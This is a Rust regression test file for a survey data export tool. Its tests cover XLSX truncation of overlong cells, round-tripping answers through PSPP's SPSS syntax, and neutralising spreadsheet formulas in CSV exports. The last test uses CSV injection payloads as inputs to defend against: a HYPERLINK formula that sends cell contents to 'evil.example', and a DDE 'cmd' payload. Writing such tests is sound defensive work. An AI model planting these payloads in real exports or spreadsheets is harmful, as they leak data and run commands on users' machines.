//! Regression tests for the export classes of issue 15, each named after
//! its class (docs/RELIABILITY.md, "Hardening classes"):
//!
//! - one bad cell, everyone's loss: one answer Excel cannot hold must not
//!   cost the other responses their XLSX export;
//! - export fidelity: every answer, whatever it holds, comes back whole from
//!   every file a statistics package reads;
//! - export safety: nothing in an answer (or a device-chosen id) runs as a
//!   formula when a CSV is opened in a spreadsheet.

mod common;

use std::collections::{BTreeMap, HashMap};
use std::path::{Path, PathBuf};
use std::process::Command;

use enumera_central::Central;
use enumera_central::export::{ExportOptions, Format, export};
use enumera_core::bundle::{BundleOptions, finalize_response, write_bundle};
use enumera_core::instrument::Instrument;
use enumera_core::store::{NewResponse, Store};

/// A form with a text question `a` and an integer `n`.
fn form() -> Instrument {
    let json = serde_json::json!({
        "model_version": enumera_core::instrument::model::MODEL_VERSION,
        "form_id": "notes", "version": "1", "title": "Notes", "root_name": "data",
        "settings": {},
        "children": [
            {"name": "a", "kind": {"kind": "question", "type": "text"}, "row": 2, "label": {"": "Answer"}},
            {"name": "n", "kind": {"kind": "question", "type": "integer"}, "row": 3, "label": {"": "Number"}},
        ],
    });
    Instrument::from_json(json.to_string().as_bytes()).expect("instrument")
}

fn escape(s: &str) -> String {
    s.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('\r', "&#13;")
}

/// A central holding one response per (answer, number), made by a device
/// whose enumerator id is `enumerator`; the instance ids, in order.
fn central_with(
    answers: &[(&str, &str)],
    enumerator: &str,
) -> (tempfile::TempDir, PathBuf, Vec<String>) {
    let dir = common::tempdir();
    let mut store = Store::open(dir.path().join("device.db")).expect("open");
    store.init_device("tab1", Some(enumerator)).expect("init");
    let form = form();
    let key = store.install_instrument(&form).expect("install");
    let mut ids = Vec::new();
    for (a, n) in answers {
        let id = store.create_draft(&NewResponse::new(key.clone())).expect("draft").instance_id;
        let xml = format!(
            "<data id=\"notes\" version=\"1\"><a>{}</a><n>{n}</n><meta><instanceID>{id}</instanceID></meta></data>",
            escape(a)
        );
        finalize_response(&mut store, &id, xml, "{}".into()).expect("finalize");
        ids.push(id);
    }
    let mut bundle = Vec::new();
    write_bundle(
        &store,
        &BundleOptions { since_receipt: false, ..Default::default() },
        &mut bundle,
    )
    .expect("bundle");
    let db = dir.path().join("central.db");
    let mut central = Central::init(&db).expect("central");
    central.ingest(&bundle).expect("ingest");
    central.publish(&form).expect("publish");
    (dir, db, ids)
}

fn read_csv(path: &Path) -> Vec<HashMap<String, String>> {
    let mut r = csv::Reader::from_path(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let header: Vec<String> = r.headers().expect("header").iter().map(String::from).collect();
    r.records()
        .map(|rec| {
            header.iter().cloned().zip(rec.expect("record").iter().map(String::from)).collect()
        })
        .collect()
}

/// Answers that break naive writers: line breaks of every kind, quotes and
/// commas, Bengali and Portuguese, SPSS and Stata syntax characters, and a
/// 30,000-character text.
fn hard_answers() -> Vec<String> {
    vec![
        "first line\nsecond line\n\nfourth after a blank".into(),
        "windows\r\nline ends\r\n".into(),
        "quotes \"double\" and 'single', commas, and a trailing backslash \\".into(),
        "পরিকল্পনা সক্ষমতা — Capacidade de planeamento, ação".into(),
        "SPSS and Stata syntax: . / * `macro' $global ' \" END DATA.".into(),
        "   leading and trailing spaces   ".into(),
        "ব".repeat(10_000),
        "x".repeat(30_000),
    ]
}

/// One answer of 40,000 characters does not stop the XLSX export: every
/// response is there, the long cell is cut at Excel's 32,767 characters
/// with a note in report.csv, and the whole text is kept beside the
/// workbook. (On main the whole export failed: only report.csv was written.)
#[test]
fn one_bad_cell_a_text_longer_than_excel_holds_costs_no_one_their_export() {
    use calamine::{Reader, open_workbook_auto};
    let long = "ক".repeat(20_000) + &"y".repeat(20_000);
    let (_dir, db, ids) =
        central_with(&[("short answer", "1"), (&long, "2"), ("after", "3")], "enum-1");
    let central = Central::open(&db).expect("open");
    let out = common::tempdir();
    let opts = ExportOptions { format: Some(Format::Xlsx), ..Default::default() };
    let summary = export(central.store(), &opts, out.path(), &mut |_, _| {}).expect("export");
    assert_eq!(summary.responses, 3);

    let mut book = open_workbook_auto(out.path().join("notes.xlsx")).expect("xlsx");
    let range = book.worksheet_range("notes").expect("sheet");
    assert_eq!(range.height(), 4, "header and three responses");
    let cell = |row: usize, name: &str| {
        let col = (0..range.width())
            .find(|c| range.get((0, *c)).map(|v| v.to_string()).as_deref() == Some(name))
            .unwrap_or_else(|| panic!("no column {name}"));
        range.get((row, col)).map(|v| v.to_string()).unwrap_or_default()
    };
    let row_of = |id: &str| (1..range.height()).find(|r| cell(*r, "KEY") == id).expect("row");
    assert_eq!(cell(row_of(&ids[0]), "a"), "short answer");
    assert_eq!(cell(row_of(&ids[2]), "a"), "after");
    let cut = cell(row_of(&ids[1]), "a");
    assert_eq!(cut.chars().count(), 32_767);
    assert!(long.starts_with(&cut));

    let report = read_csv(&out.path().join("report.csv"));
    let note =
        report.iter().find(|r| r["kind"] == "xlsx_cell_truncated").expect("a note in report.csv");
    assert_eq!(note["instance_id"], ids[1]);
    assert!(
        note["detail"].contains("40000") && note["detail"].contains("notes-long-text.csv"),
        "{note:?}"
    );
    assert_eq!(summary.report.get("xlsx_cell_truncated"), Some(&1));

    // The whole text beside the workbook, found by table, key and column.
    let side = read_csv(&out.path().join("notes-long-text.csv"));
    assert_eq!(side.len(), 1);
    assert_eq!(side[0]["table"], "notes");
    assert_eq!(side[0]["KEY"], ids[1]);
    assert_eq!(side[0]["column"], "a");
    assert_eq!(side[0]["text"], long);
}

/// Every answer comes back whole when PSPP runs the `.sps` the export
/// wrote, as an SPSS user would. (On main the `.sps` read the CSV line by
/// line: a line break in an answer made a phantom case and shifted the
/// values after it.) Skips with a message only when PSPP is not installed
/// (scripts/test-export-tools.sh installs it).
#[test]
fn export_fidelity_every_answer_round_trips_through_the_spss_syntax() {
    if Command::new("pspp").arg("--version").output().is_err() {
        eprintln!("SKIPPED: pspp is not installed (apt-get install pspp); the .sps was not run");
        return;
    }
    let answers = hard_answers();
    let rows: Vec<(String, String)> = answers
        .iter()
        .enumerate()
        .map(|(i, a)| (a.clone(), (i as i64 * 7 - 20).to_string()))
        .collect();
    let refs: Vec<(&str, &str)> = rows.iter().map(|(a, n)| (a.as_str(), n.as_str())).collect();
    let (_dir, db, ids) = central_with(&refs, "enum-1");
    let central = Central::open(&db).expect("open");
    let out = common::tempdir();
    let opts = ExportOptions { format: Some(Format::Spss), ..Default::default() };
    export(central.store(), &opts, out.path(), &mut |_, _| {}).expect("export");

    // Run the export's syntax, then have PSPP write what it holds as CSV
    // (its CSV writer drops carriage returns, so they are spelled out first).
    let check = out.path().join("check.sps");
    std::fs::write(
        &check,
        "INCLUDE FILE='export.sps'.\nGET FILE='notes.sav'.\n\
         STRING a_cr (A32767).\nCOMPUTE a_cr = REPLACE(a, X'0D', '<CR>').\n\
         SAVE TRANSLATE /OUTFILE='pspp-notes.csv' /TYPE=CSV /FIELDNAMES /REPLACE /KEEP=KEY a_cr n.\n",
    )
    .expect("write");
    let run = Command::new("pspp").arg("check.sps").current_dir(out.path()).output().expect("pspp");
    let stdout = String::from_utf8_lossy(&run.stdout);
    assert!(run.status.success() && !stdout.contains("error"), "pspp: {stdout}");
    let got = read_csv(&out.path().join("pspp-notes.csv"));
    assert_eq!(got.len(), answers.len(), "one case per response, no phantom cases");
    for (i, id) in ids.iter().enumerate() {
        let row = got.iter().find(|r| r["KEY"] == *id).unwrap_or_else(|| panic!("no case {id}"));
        // PSPP pads strings with spaces to their width; SPSS compares that way too.
        let a = row["a_cr"].replace("<CR>", "\r");
        let a = a.trim_end_matches(' ');
        assert_eq!(a, rows[i].0.trim_end_matches(' '), "answer {i}");
        assert_eq!(
            row["n"].trim().parse::<f64>().ok(),
            rows[i].1.parse::<f64>().ok(),
            "number {i}"
        );
    }
}

/// Answers and the device-chosen enumerator id that a spreadsheet would run
/// as formulas are neutralised in every CSV (a leading `'`), negative
/// numbers stay numbers, and the other formats keep the values as given.
/// (On main `=HYPERLINK(...)` reached the CSV as it came.)
#[test]
fn export_safety_formulas_in_answers_and_ids_never_reach_a_csv_cell_as_formulas() {
    let evil_enumerator = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    let answers = [
        ("=1+1", "-3"),
        ("+44 20 7946 0958", "4"),
        ("-2+3+cmd|' /C calc'!A0", "-12"),
        ("@SUM(A1:A2)", "0"),
        ("plain text", "5"),
    ];
    let (_dir, db, ids) = central_with(&answers, evil_enumerator);
    let central = Central::open(&db).expect("open");
    let out = common::tempdir();
    export(central.store(), &ExportOptions::default(), out.path(), &mut |_, _| {}).expect("export");
    let rows = read_csv(&out.path().join("notes.csv"));
    let by_key: BTreeMap<&str, &HashMap<String, String>> =
        rows.iter().map(|r| (r["KEY"].as_str(), r)).collect();
    for (id, (a, n)) in ids.iter().zip(answers) {
        let row = by_key[id.as_str()];
        let want = if a == "plain text" { a.to_string() } else { format!("'{a}") };
        assert_eq!(row["a"], want);
        assert_eq!(row["n"], n, "numbers are never prefixed");
        assert_eq!(row["meta-enumerator"], format!("'{evil_enumerator}"));
    }
    // No CSV of the export holds a cell a spreadsheet would run.
    for entry in std::fs::read_dir(out.path()).expect("dir") {
        let path = entry.expect("entry").path();
        if path.extension().is_some_and(|e| e == "csv") {
            let mut r = csv::ReaderBuilder::new().has_headers(false).from_path(&path).expect("csv");
            for rec in r.records() {
                for cell in rec.expect("record").iter() {
                    let danger = cell.starts_with(['=', '+', '@'])
                        || (cell.starts_with('-') && cell.parse::<f64>().is_err());
                    assert!(!danger, "{}: {cell:?}", path.display());
                }
            }
        }
    }
    // JSON keeps the values exactly.
    let out = common::tempdir();
    let opts = ExportOptions { format: Some(Format::Json), ..Default::default() };
    export(central.store(), &opts, out.path(), &mut |_, _| {}).expect("export");
    let text = std::fs::read_to_string(out.path().join("notes.jsonl")).expect("jsonl");
    assert!(text.contains("\"=1+1\""), "{text}");
}
